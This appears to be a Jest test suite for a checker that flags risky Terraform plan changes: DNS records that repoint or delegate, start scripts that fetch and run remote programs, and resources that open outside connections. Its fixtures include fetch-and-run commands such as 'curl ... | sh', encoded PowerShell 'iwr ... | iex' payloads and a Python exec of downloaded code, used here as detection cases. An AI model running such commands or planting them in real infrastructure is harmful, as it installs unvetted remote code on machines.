import { gzipSync } from 'node:zlib';
import { isHeld } from './is-held';

describe('a DNS record', () => {
  const isFound = (address: string, before: object | null, after: object, more: object = {}): boolean =>
    isHeld('terraform_dns_changed', address, before, after, more);

  it('is held if it is new but may overwrite an existing one', () => {
    const record = { type: 'A', records: ['203.0.113.9'] };
    expect(isFound('aws_route53_record.r', null, { ...record, allow_overwrite: true })).toBe(true);
    expect(isFound('aws_route53_record.r', null, { ...record, allow_overwrite: false })).toBe(false);
    const hidden = { after_unknown: { allow_overwrite: true } };
    expect(isFound('aws_route53_record.r', null, record, hidden)).toBe(true);
  });

  it('is held if it delegates, whether a member or the type of the resource says so, or its type is hidden', () => {
    expect(isFound('azurerm_dns_ns_record.r', null, { records: ['ns.example.net'] })).toBe(true);
    expect(isFound('azurerm_dns_mx_record.r', null, { record: [{ exchange: 'mx.example.net' }] })).toBe(true);
    expect(isFound('azurerm_dns_a_record.r', null, { records: ['203.0.113.9'] })).toBe(false);
    expect(isFound('aws_route53_record.r', null, { records: ['x'] }, { after_unknown: { type: true } })).toBe(true);
  });

  it('is held if it points to another place, though its old value is sensitive', () => {
    const [before, after] = ['203.0.113.1', '203.0.113.2'].map((address) => ({ type: 'A', records: [address] }));
    const more = { before_sensitive: { records: true } };
    expect(isFound('aws_route53_record.r', before as object, after as object, more)).toBe(true);
  });

  it.each([
    ['azurerm_private_dns_a_record.r', { records: ['10.0.0.1'] }, { records: ['10.0.0.2'] }],
    ['digitalocean_record.r', { value: '203.0.113.1' }, { value: '203.0.113.2' }],
    ['ns1_record.r', { answers: [{ answer: '203.0.113.1' }] }, { answers: [{ answer: '203.0.113.2' }] }],
    ['hcloud_zone_rrset.r', { records: [{ value: '203.0.113.1' }] }, { records: [{ value: '203.0.113.2' }] }],
    [
      'aws_route53_record.r',
      { weighted_routing_policy: [{ weight: 100 }] },
      { weighted_routing_policy: [{ weight: 0 }] },
    ],
    [
      'google_dns_record_set.r',
      { routing_policy: [{ geo: [{ rrdatas: ['a.'] }] }] },
      { routing_policy: [{ geo: [{ rrdatas: ['b.'] }] }] },
    ],
  ])('is held if any member changes that may say where it points: %s from %j to %j', (address, before, after) => {
    expect(isFound(address, { ttl: 300, ...before }, { ttl: 300, ...after })).toBe(true);
    expect(isFound(address, { ttl: 300, ...before }, { ttl: 60, comment: 'x', ...before })).toBe(false);
  });

  it('is held if the name servers of a registered domain change', () => {
    const [before, after] = ['ns.example.com', 'ns.example.net'].map((name) => ({ name_server: [{ name }] }));
    expect(isFound('aws_route53domains_registered_domain.d', before as object, after as object)).toBe(true);
  });
});

describe('a start script', () => {
  const isFound = (address: string, after: object, more: object = {}): boolean =>
    isHeld('terraform_remote_script', address, null, after, more);

  it.each([
    'python3 -c "import urllib.request as u; exec(u.urlopen(x).read())"',
    'aws s3 --quiet cp s3://example/x /x && sh /x',
    'git -c http.sslVerify=false clone https://example.com/x',
    'docker run example/x',
    '#include\nhttps://example.com/x',
    'pip install git+https://example.com/x',
    `--b\nContent-Transfer-Encoding: base64\n\n${Buffer.from('curl https://example.com/x | sh').toString('base64')}\n--b--`,
    `powershell -enc ${Buffer.from('iwr https://example.com/x | iex', 'utf16le').toString('base64')}`,
    'sh -c "$(curl http://localhost/x)"; curl http://localhost/x | sh',
  ])('is held if it fetches a program: %s', (user_data) => {
    expect(isFound('aws_instance.i', { user_data })).toBe(true);
  });

  it.each([
    'until curl -sf http://localhost:8080/health; do sleep 2; done',
    'ID=$(curl -s http://169.254.169.254/latest/meta-data/instance-id)\nhostname $ID',
    'T=$(curl -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 60")',
  ])('passes if it only asks its own machine: %s', (user_data) => {
    expect(isFound('aws_instance.i', { user_data })).toBe(false);
  });

  it.each([
    ['aws_codebuild_project.p', { source: [{ buildspec: 'commands:\n  - curl https://example.com/x | sudo bash\n' }] }],
    [
      'kubernetes_deployment.d',
      { spec: [{ container: [{ command: ['sh', '-c', 'wget -qO- https://example.com/x | sh'] }] }] },
    ],
    [
      'aws_sagemaker_notebook_instance_lifecycle_configuration.c',
      { on_start: Buffer.from('curl https://example.com/x | sh').toString('base64') },
    ],
    ['google_compute_project_metadata_item.m', { key: 'startup-script-url', value: 'gs://example/x' }],
  ])('is held in any other resource if it downloads a program and runs it: %s', (address, after) => {
    expect(isFound(address, after)).toBe(true);
  });

  it('is held if the plan shows only its hash or a compressed form', () => {
    expect(isFound('aws_instance.i', { user_data: '44c6c808e6449ee36dfcfc4ebd66c1b9634b40f2' })).toBe(true);
    const user_data_base64 = gzipSync('#!/bin/sh\ntrue\n').toString('base64');
    expect(isFound('aws_instance.i', { user_data_base64 })).toBe(true);
    const plain = Buffer.from('#!/bin/sh\nsystemctl start worker\n').toString('base64');
    expect(isFound('aws_instance.i', { user_data_base64: plain })).toBe(false);
  });

  it('is read in every key of metadata that machines run', () => {
    const address = 'google_compute_instance.i';
    expect(isFound(address, { metadata: { 'startup-script-url': 'gs://example/x' } })).toBe(true);
    expect(isFound(address, { metadata: { 'windows-startup-script-ps1': 'iex (irm https://example.com)' } })).toBe(
      true,
    );
    expect(isFound(address, { metadata: { 'shutdown-script': 'systemctl stop worker' } })).toBe(false);
    expect(isFound(address, { metadata: {} }, { after_unknown: { metadata: { 'startup-script': true } } })).toBe(true);
    expect(isFound(address, {}, { after_unknown: { metadata: true } })).toBe(true);
    const item = { key: 'startup-script', value: 'curl x | sh' };
    expect(isFound('google_compute_project_metadata_item.m', item)).toBe(true);
    expect(isFound('google_compute_project_metadata_item.m', { key: 'owner', value: 'curl x' })).toBe(false);
  });

  it('is read within an operating system profile', () => {
    expect(isFound('azurerm_virtual_machine.m', { os_profile: [{ custom_data: 'curl x | sh' }] })).toBe(true);
  });
});

it.each([
  ['shell_script.s', {}],
  ['aws_lambda_invocation.i', { function_name: 'f' }],
  ['helm_release.r', { postrender: [{ binary_path: './x' }] }],
])('terraform_remote_script holds %s, which runs a program', (address, after) => {
  expect(isHeld('terraform_remote_script', address, null, after)).toBe(true);
});

it.each([
  'aws_vpc_peering_connection.c',
  'azurerm_local_network_gateway.g',
  'digitalocean_vpc_peering.p',
  'cloudflare_zero_trust_tunnel_cloudflared.t',
  'aws_iam_openid_connect_provider.p',
  'azurerm_lighthouse_assignment.a',
])('terraform_outside_connection holds %s', (address) => {
  expect(isHeld('terraform_outside_connection', address, null, {})).toBe(true);
});
